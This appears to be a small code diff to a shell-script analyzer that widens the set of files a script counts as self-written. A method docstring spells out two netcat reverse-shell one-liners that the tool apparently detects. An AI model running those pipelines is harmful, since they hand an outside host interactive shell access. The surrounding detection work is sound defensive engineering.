@@ -243,7 +243,7 @@ class NestedMixin(AnalyzerBase):
 
     def _written_files(self) -> set[str]:
         """The files this script downloaded or wrote before (a data query of one is not of a fixed source)."""
-        return set(self.run.downloads) | set(self.run.literal_files)
+        return set(self.run.downloads) | set(self.run.literal_files) | self.run.made
 
     def _pipeline_shell(self, cmd: Cmd, key: str, args: list[Word], frame: Frame) -> None:
         """`mkfifo f; cat f | sh -i 2>&1 | nc host port > f` and `nc host port | sh`."""
